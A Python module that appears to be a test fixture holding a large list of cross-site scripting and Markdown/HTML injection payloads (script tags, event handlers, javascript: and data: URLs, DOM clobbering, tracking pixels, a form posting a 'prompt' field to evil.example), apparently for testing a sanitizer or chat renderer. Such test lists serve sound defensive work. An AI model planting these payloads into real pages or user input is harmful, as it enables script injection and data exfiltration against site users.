"""Text that would like to be a program: what has worked somewhere, from the cheat sheets of OWASP and PortSwigger,
and what Markdown, links, styles and directions add to that. Each sets `pwned`, or asks `evil.example` for something.
"""

SCRIPTS = """
<script>pwned=1</script>
<ScRiPt>pwned=1</sCrIpT>
<script src=https://evil.example/x.js></script>
<script src="//evil.example/x.js"></script>
<script type=module>import "https://evil.example/x.js"</script>
<script>pwned=1</script
<script/x>pwned=1</script>
<<script>pwned=1//<</script>
<svg><script>pwned=1</script></svg>
<svg><script href="https://evil.example/x.js"/></svg>
<math><mtext><script>pwned=1</script></mtext></math>
</title><script>pwned=1</script>
</textarea><script>pwned=1</script>
</style><script>pwned=1</script>
</code></pre><script>pwned=1</script>
--><script>pwned=1</script>
]]><script>pwned=1</script>
<noscript><p title="</noscript><script>pwned=1</script>">
<template><script>pwned=1</script></template>
&lt;script&gt;pwned=1&lt;/script&gt;
&#60;script&#62;pwned=1&#60;/script&#62;
\\u003cscript\\u003epwned=1\\u003c/script\\u003e
%3Cscript%3Epwned=1%3C/script%3E
+ADw-script+AD4-pwned=1+ADw-/script+AD4-
""".strip().split("\n")

HANDLERS = """
<img src=x onerror=pwned=1>
<img src=x onerror="pwned=1">
<img/src=x/onerror=pwned=1>
<img src=x:x onerror\t=\tpwned=1>
<IMG SRC=x ONERROR=pwned=1>
"><img src=x onerror=pwned=1>
'><img src=x onerror=pwned=1>
`><img src=x onerror=pwned=1>
" onerror="pwned=1" src="x
' onmouseover='pwned=1' x='
" autofocus onfocus=pwned=1 x="
<img src=https://evil.example/pixel.png>
<img srcset="https://evil.example/pixel.png 1x">
<picture><source srcset=https://evil.example/p.png><img></picture>
<svg onload=pwned=1>
<svg/onload=pwned=1>
<svg><animate onbegin=pwned=1 attributeName=x dur=1s>
<svg><set onbegin=pwned=1 attributeName=x>
<svg><a xlink:href="javascript:pwned=1"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=pwned=1>#x"/></svg>
<svg><image href="https://evil.example/x.svg"/></svg>
<svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>
<math href="javascript:pwned=1">x</math>
<math><mi//xlink:href="javascript:pwned=1">x
<body onload=pwned=1>
<body background=https://evil.example/x.png>
<video src=https://evil.example/v.mp4 autoplay onerror=pwned=1>
<video poster=https://evil.example/v.png>
<video><source onerror=pwned=1>
<audio src=x onerror=pwned=1>
<iframe src="javascript:pwned=1"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<object data="javascript:pwned=1"></object>
<object data=https://evil.example/x.swf></object>
<embed src="javascript:pwned=1">
<embed src=https://evil.example/x>
<applet code=x archive=https://evil.example/x.jar>
<form action="javascript:pwned=1"><input type=submit>
<form id=composer action=https://evil.example/><input name=prompt></form>
<button formaction="javascript:pwned=1">x</button>
<isindex action="javascript:pwned=1" type=submit>
<input autofocus onfocus=pwned=1>
<select autofocus onfocus=pwned=1>
<textarea autofocus onfocus=pwned=1>
<details open ontoggle=pwned=1>
<marquee onstart=pwned=1>
<div onpointerrawupdate=pwned=1 style=position:fixed;inset:0>x</div>
<xss onafterscriptexecute=pwned=1>
<x onclick=pwned=1 tabindex=1 id=x autofocus onfocus=pwned=1>
<div style="background:url(https://evil.example/x.png)">x</div>
<div style="width:expression(pwned=1)">x</div>
<div style="animation-name:x" onanimationstart=pwned=1>
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url(https://evil.example/x.png)}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=image href=https://evil.example/x.png>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:pwned=1">
<base href=https://evil.example/>
<table background=https://evil.example/x.png><tr><td>x
<a href="javascript:pwned=1">x</a>
<a href=https://evil.example/ ping=https://evil.example/ping>x</a>
<portal src=https://evil.example/>
<img name=getElementById><form name=edgechat><input name=ready></form>
<a id=edgechat><a id=edgechat name=highlighter href="javascript:pwned=1">
""".strip().split("\n")

ADDRESSES = [
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    " javascript:pwned=1",
    "\tjavascript:pwned=1",
    "java\tscript:pwned=1",
    "java\nscript:pwned=1",
    "\x01javascript:pwned=1",
    "javascript&colon;pwned=1",
    "&#106;avascript:pwned=1",
    "&#x6A;avascript&#58;pwned=1",
    "javascript\\:pwned=1",
    "javascript://evil.example/%0Apwned=1",
    "javascript:https://evil.example",
    "vbscript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>pwned=1</script>",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "view-source:javascript:pwned=1",
    "feed:javascript:pwned=1",
    "jar:https://evil.example/x!/",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/api/session",
    "?x=<script>pwned=1</script>",
    "#<img src=x onerror=pwned=1>",
    "http:javascript:pwned=1",
    "https:///javascript:pwned=1",
]

MARKDOWN = [
    *(f"[x]({url})" for url in ADDRESSES),
    *(f"![x]({url})" for url in ADDRESSES[:6]),
    "[x](<javascript:pwned=1>)",
    "<javascript:pwned=1>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:pwned=1",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "![x](https://evil.example/pixel.png)",
    "[![x](https://evil.example/pixel.png)](javascript:pwned=1)",
    '[x](https://evil.example "\\" onmouseover=\\"pwned=1")',
    '[x](https://evil.example/"onmouseover="pwned=1)',
    "[x](https://evil.example/<script>pwned=1</script>)",
    "[\u202egpj.exe](https://evil.example)",
    "[x](java\u200bscript:pwned=1)",
    "[x](javas&Tab;cript:pwned=1)",
    "[x](\u0000javascript:pwned=1)",
    "<a href='javascript:pwned=1'>*x*</a>",
    "**<b onclick=pwned=1>x</b>**",
    "`<img src=x onerror=pwned=1>`",
    "    <img src=x onerror=pwned=1>",
    "> <img src=x onerror=pwned=1>",
    "- <img src=x onerror=pwned=1>",
    "| <img src=x onerror=pwned=1> |\n| --- |\n| <script>pwned=1</script> |",
    "# <img src=x onerror=pwned=1>",
    "```<img/src=x/onerror=pwned=1>\ncode\n```",
    '```js" onmouseover="pwned=1\ncode\n```',
    "```__proto__\ncode\n```",
    "```constructor\ncode\n```",
    "~~~html\n</code></pre><img src=x onerror=pwned=1>\n~~~",
    "<!--<img src=x onerror=pwned=1>-->",
    "<?php pwned=1 ?>",
    "<![CDATA[<img src=x onerror=pwned=1>]]>",
    "{{constructor.constructor('pwned=1')()}}",
    "${pwned=1}",
    "\u2028<script>pwned=1</script>",
    "\U0001f600<script>pwned=1</script>\u202e",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *MARKDOWN]
